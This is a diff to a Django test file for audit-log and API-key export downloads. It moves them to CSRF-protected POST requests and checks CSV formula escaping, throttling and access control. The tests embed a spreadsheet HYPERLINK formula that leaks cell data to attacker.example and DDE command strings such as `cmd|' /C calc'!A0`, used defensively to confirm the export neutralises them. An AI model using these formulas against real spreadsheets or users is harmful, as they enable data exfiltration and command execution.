@@ -11,6 +11,7 @@ from datetime import timedelta
 
 import pytest
 from django.db import connection
+from django.test import Client
 from django.test.utils import CaptureQueriesContext
 from django.utils import timezone
 
@@ -21,15 +22,16 @@ from apps.projects.services import create_project
 from core import export
 from tests.conftest import access_token_for, bearer
 from tests.factories import make_key
-from tests.pages import html, logged_in
+from tests.pages import html, key_page_url, logged_in
+from tests.security.test_csrf_everywhere import CSRF_REFUSAL, PostForms
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("https://attacker.example/?leak="&A2,"Click for details")'
 
 
-def export_url(organization, file_format: str, query: str = "") -> str:
-    return f"/orgs/{organization.id}/audit-log/export.{file_format}{query}"
+def export_url(organization, file_format: str) -> str:
+    return f"/orgs/{organization.id}/audit-log/export.{file_format}"
 
 
 def event(organization, action, minutes_ago, label, **kwargs):
@@ -71,7 +73,7 @@ def test_managers_download_the_log_as_csv_newest_first(request, role, organizati
     event(organization, Action.KEY_MINTED, 30, "older-event", actor_user=owner)
     event(organization, Action.KEY_REVOKED, 5, "newer-event", actor_user=owner)
 
-    response = logged_in(request.getfixturevalue(role)).get(export_url(organization, "csv"))
+    response = logged_in(request.getfixturevalue(role)).post(export_url(organization, "csv"))
 
     assert response.status_code == 200 and response.streaming
     assert response["Content-Type"] == "text/csv; charset=utf-8; header=present"
@@ -112,7 +114,7 @@ def test_json_lines_hold_the_apis_events_exactly(owner, organization, project, a
     make_key(KeyKind.SECRET, project=project, actor=owner, name="Ünïcode key")
     make_key(KeyKind.ORGANIZATION, organization=organization, actor=owner)
 
-    response = logged_in(owner).get(export_url(organization, "jsonl"))
+    response = logged_in(owner).post(export_url(organization, "jsonl"))
     downloaded = json_rows(response)
     listed = api_client.get(
         f"/v1/organizations/{organization.id}/audit-events", **bearer(access_token_for(owner))
@@ -122,7 +124,7 @@ def test_json_lines_hold_the_apis_events_exactly(owner, organization, project, a
     assert response["Content-Disposition"].endswith('.jsonl"')
     assert downloaded == listed
     assert {"key.minted", Action.AUDIT_LOG_EXPORTED} <= {row["action"] for row in downloaded}
-    assert "Ünïcode key" in body(logged_in(owner).get(export_url(organization, "jsonl"))).decode()
+    assert "Ünïcode key" in body(logged_in(owner).post(export_url(organization, "jsonl"))).decode()
 
 
 @pytest.mark.parametrize("file_format", ["csv", "jsonl"])
@@ -131,20 +133,17 @@ def test_the_pages_action_filter_is_honoured(owner, organization, file_format):
     event(organization, Action.MEMBER_ADDED, 2, "added-one")
     client = logged_in(owner)
 
-    response = client.get(export_url(organization, file_format, "?action=member.added"))
+    response = client.post(export_url(organization, file_format), {"action": "member.added"})
 
     text = body(response).decode()
     assert "added-one" in text and "minted-one" not in text
     assert "-member.added-" in response["Content-Disposition"]
-    page = html(client.get(f"/orgs/{organization.id}/audit-log/?action=member.added"))
-    assert 'href="export.csv?action=member.added">Download CSV' in page
-    assert 'href="export.jsonl?action=member.added">Download JSON Lines' in page
 
 
 def test_an_unknown_action_filter_downloads_everything_as_the_page_shows(owner, organization):
     event(organization, Action.KEY_MINTED, 3, "minted-one")
 
-    response = logged_in(owner).get(export_url(organization, "csv", "?action=<script>"))
+    response = logged_in(owner).post(export_url(organization, "csv"), {"action": "<script>"})
 
     assert "minted-one" in body(response).decode()
     assert "script" not in response["Content-Disposition"]
@@ -157,8 +156,8 @@ def test_before_continues_after_an_event_of_this_log_only(owner, organization, o
     foreign = event(outsider.memberships.get().organization, Action.KEY_MINTED, 1, "foreign")
     client = logged_in(owner)
 
-    after_middle = body(client.get(export_url(organization, "csv", f"?before={middle.id}")))
-    ignored = body(client.get(export_url(organization, "csv", f"?before={foreign.id}")))
+    after_middle = body(client.post(export_url(organization, "csv"), {"before": middle.id}))
+    ignored = body(client.post(export_url(organization, "csv"), {"before": foreign.id}))
 
     assert "old-event" in after_middle.decode() and "new-event" not in after_middle.decode()
     assert str(old.id) in after_middle.decode()
@@ -172,7 +171,7 @@ def test_a_name_that_is_a_formula_is_only_text_in_the_csv(owner, organization):
     for start in ("+", "-", "@", "\t", "\r"):
         event(organization, Action.PROJECT_UPDATED, 1, f"{start}cmd|' /C calc'!A0")
 
-    rows = csv_rows(logged_in(owner).get(export_url(organization, "csv")))
+    rows = csv_rows(logged_in(owner).post(export_url(organization, "csv")))
 
     created = next(row for row in rows if row["action"] == "project.created")
     assert created["target.label"] == "'" + FORMULA
@@ -188,7 +187,7 @@ def test_members_and_viewers_get_403_and_nothing_is_recorded(
 ):
     event(organization, Action.KEY_MINTED, 1, "secretive")
 
-    response = logged_in(request.getfixturevalue(role)).get(export_url(organization, file_format))
+    response = logged_in(request.getfixturevalue(role)).post(export_url(organization, file_format))
 
     assert response.status_code == 403 and not response.streaming
     assert "secretive" not in html(response)
@@ -199,7 +198,7 @@ def test_members_and_viewers_get_403_and_nothing_is_recorded(
 def test_outsider_gets_404_and_nothing_is_recorded(outsider, organization, file_format):
     event(organization, Action.KEY_MINTED, 1, "secretive")
 
-    response = logged_in(outsider).get(export_url(organization, file_format))
+    response = logged_in(outsider).post(export_url(organization, file_format))
 
     assert response.status_code == 404
     assert "secretive" not in html(response)
@@ -207,12 +206,12 @@ def test_outsider_gets_404_and_nothing_is_recorded(outsider, organization, file_
 
 
 def test_a_logged_out_download_goes_to_the_login(client, organization):
-    response = client.get(export_url(organization, "csv"))
+    response = client.post(export_url(organization, "csv"))
     assert response.status_code == 302 and response["Location"].startswith("/login/")
 
 
 def test_each_download_is_an_audit_event(owner, organization):
-    body(logged_in(owner).get(export_url(organization, "jsonl", "?action=key.revoked")))
+    body(logged_in(owner).post(export_url(organization, "jsonl"), {"action": "key.revoked"}))
 
     [recorded] = AuditEvent.objects.filter(action=Action.AUDIT_LOG_EXPORTED)
     assert recorded.organization_id == organization.id and recorded.actor_user_id == owner.id
@@ -220,25 +219,87 @@ def test_each_download_is_an_audit_event(owner, organization):
     assert recorded.details == {"format": "jsonl", "action": "key.revoked"}
 
 
-def test_head_answers_as_get_without_a_file_a_record_or_a_place_in_the_limit(
+def test_a_get_or_head_records_and_counts_nothing_and_leads_to_the_page(
     owner, member, outsider, organization, project, settings, throttle_clock
 ):
-    """RFC 9110: a server that serves GET serves HEAD (monitors and link checkers send it;
-    `tests/security/test_head_everywhere.py`); it reads, records and counts nothing."""
+    """Another site can make the browser GET an address (a link, a top-level navigation
+    carries the SameSite=Lax cookies): it must not write an audit event nor spend the
+    user's downloads. Such a GET or HEAD (RFC 9110: a server that serves GET serves HEAD;
+    `tests/security/test_head_everywhere.py`) leads to the page, as it was filtered."""
     settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (1, 3600)}
+    middle = event(organization, Action.MEMBER_ADDED, 2, "added-one")
     client = logged_in(owner)
-    urls = [export_url(organization, "csv"), f"/projects/{project.id}/api-keys/export.csv"]
+    query = f"?action=member.added&before={middle.id}"
+    log_urls = [export_url(organization, "csv"), export_url(organization, "jsonl")]
+    key_urls = [f"{key_page_url(kind, project)}export.csv" for kind in KeyKind]
 
-    heads = [client.head(url) for url in urls for _ in range(3)]
+    answers = [
+        (url, getattr(client, method)(url + query))
+        for url in log_urls + key_urls
+        for method in ("get", "head", "get")
+    ]
 
-    assert {head.status_code for head in heads} == {200}
-    assert all(head["Content-Disposition"].startswith("attachment;") for head in heads)
-    assert all(head["Cache-Control"] == "no-store" for head in heads)
     assert exports_recorded(organization) == 0
-    assert logged_in(outsider).head(urls[0]).status_code == 404
-    assert logged_in(outsider).head(urls[1]).status_code == 404
-    assert logged_in(member).head(urls[0]).status_code == 403
-    assert client.get(urls[0]).status_code == 200  # the hour's one download still there
+    assert not any(response.streaming for _, response in answers)
+    pages = {url: response["Location"] for url, response in answers if response.status_code == 302}
+    assert len(pages) == 5 and len(answers) == 15
+    assert set(pages.values()) == {
+        f"/orgs/{organization.id}/audit-log/?action=member.added&before={middle.id}",
+        *(key_page_url(kind, project) for kind in KeyKind),
+    }
+    for url in log_urls + key_urls:
+        assert logged_in(outsider).get(url).status_code == 404
+        assert logged_in(outsider).head(url).status_code == 404
+    assert logged_in(member).get(log_urls[0]).status_code == 403
+    assert client.post(log_urls[0]).status_code == 200  # the hour's one download still there
+    assert exports_recorded(organization) == 1
+
+
+@pytest.mark.parametrize("file_format", ["csv", "jsonl"])
+def test_a_download_needs_the_pages_csrf_token(
+    owner, organization, file_format, settings, throttle_clock
+):
+    """Django's real CSRF check: a form another site makes (no token) is refused before the
+    view, nothing recorded or counted; the page's own form downloads."""
+    settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (1, 3600)}
+    event(organization, Action.MEMBER_ADDED, 2, "added-one")
+    client = logged_in(owner, Client(enforce_csrf_checks=True))
+    page = html(client.get(f"/orgs/{organization.id}/audit-log/?action=member.added"))
+    [form] = [f for f in PostForms(page).forms if f.action == f"export.{file_format}"]
+    url = export_url(organization, file_format)
+
+    forged = client.post(url, {"action": "member.added"})
+
+    assert forged.status_code == 403 and CSRF_REFUSAL in html(forged)
+    assert exports_recorded(organization) == 0
+    sent = client.post(url, form.hidden)
+    assert sent.status_code == 200 and "added-one" in body(sent).decode()
+    assert exports_recorded(organization) == 1
+
+
+def download_forms(page: str) -> list:
+    return [form for form in PostForms(page).forms if form.action.startswith("export.")]
+
+
+def test_the_pages_download_forms_carry_its_filter_and_position(owner, organization):
+    newer = event(organization, Action.MEMBER_ADDED, 2, "added-one")
+    client = logged_in(owner)
+    log = f"/orgs/{organization.id}/audit-log/"
+
+    newest = html(client.get(log + "?action=member.added"))
+    older = html(client.get(log + f"?action=member.added&before={newer.id}"))
+    unknown = html(client.get(log + "?before=not-an-id"))
+
+    forms = download_forms(newest)
+    assert [f.action for f in forms] == ["export.csv", "export.jsonl"]
+    assert all(set(f.hidden) == {"csrfmiddlewaretoken", "action"} for f in forms)
+    assert all(f.hidden["action"] == "member.added" for f in forms)
+    assert ">Download CSV</button>" in newest and ">Download JSON Lines</button>" in newest
+    assert 'href="export.' not in newest  # a link is a GET: it downloads nothing now
+    assert "newest first, at most" in newest
+    assert all(f.hidden["before"] == str(newer.id) for f in download_forms(older))
+    assert "newest first from this page on, at most" in older
+    assert all(set(f.hidden) == {"csrfmiddlewaretoken"} for f in download_forms(unknown))
 
 
 def grow(organization, owner, count: int) -> None:
@@ -259,7 +320,7 @@ def grow(organization, owner, count: int) -> None:
 def queries_of(client, url: str) -> tuple[int, int]:
     """(queries, rows) of a whole download, its stream read to the end."""
     with CaptureQueriesContext(connection) as ctx:
-        rows = len(body(client.get(url)).splitlines())
+        rows = len(body(client.post(url)).splitlines())
     return len(ctx.captured_queries), rows
 
 
@@ -288,7 +349,7 @@ def test_a_download_holds_at_most_most_rows(owner, organization, monkeypatch):
     monkeypatch.setattr(export, "CHUNK_ROWS", 2)
     grow(organization, owner, 12)
 
-    rows = csv_rows(logged_in(owner).get(export_url(organization, "csv")))
+    rows = csv_rows(logged_in(owner).post(export_url(organization, "csv")))
 
     assert len(rows) == 5
     page = html(logged_in(owner).get(f"/orgs/{organization.id}/audit-log/"))
@@ -338,7 +399,7 @@ def test_a_download_name_must_be_plain_ascii(name):
 
 
 def test_the_api_lists_and_filters_the_downloads(owner, organization, api_client):
-    body(logged_in(owner).get(export_url(organization, "csv")))
+    body(logged_in(owner).post(export_url(organization, "csv")))
     event(organization, Action.KEY_MINTED, 1, "minted-one")
 
     response = api_client.get(
@@ -360,7 +421,7 @@ def test_the_first_chunk_is_read_before_the_answer_starts(owner, organization):
     client = logged_in(owner)
 
     with CaptureQueriesContext(connection) as ctx:
-        response = client.get(export_url(organization, "csv"))
+        response = client.post(export_url(organization, "csv"))
     read = [q["sql"] for q in ctx.captured_queries if "ORDER BY" in q["sql"]]
 
     assert any('FROM "audit_auditevent"' in sql for sql in read), read
@@ -373,16 +434,16 @@ def test_downloads_past_the_hours_budget_get_the_429_page(
     """Each file holds a sync worker for up to seconds: one account may not keep them busy."""
     settings.THROTTLE_RATES = {**settings.THROTTLE_RATES, "download_user": (2, 3600)}
     client = logged_in(owner)
-    body(client.get(export_url(organization, "csv")))
-    b"".join(client.get(f"/projects/{project.id}/api-keys/export.csv").streaming_content)
+    body(client.post(export_url(organization, "csv")))
+    b"".join(client.post(f"/projects/{project.id}/api-keys/export.csv").streaming_content)
 
-    refused = client.get(export_url(organization, "jsonl"))
+    refused = client.post(export_url(organization, "jsonl"))
 
     assert refused.status_code == 429 and not refused.streaming
     assert 0 < int(refused["Retry-After"]) <= 3600
     assert "Too many downloads" in html(refused) and "You downloaded 2 files" in html(refused)
     assert "Please wait about 1 hour and try again" in html(refused)  # not "60 minutes"
     assert exports_recorded(organization) == 1
-    assert client.get(f"/projects/{project.id}/sdk-keys/export.csv").status_code == 429
+    assert client.post(f"/projects/{project.id}/sdk-keys/export.csv").status_code == 429
     throttle_clock.advance(3600)
-    assert client.get(export_url(organization, "csv")).status_code == 200
+    assert client.post(export_url(organization, "csv")).status_code == 200
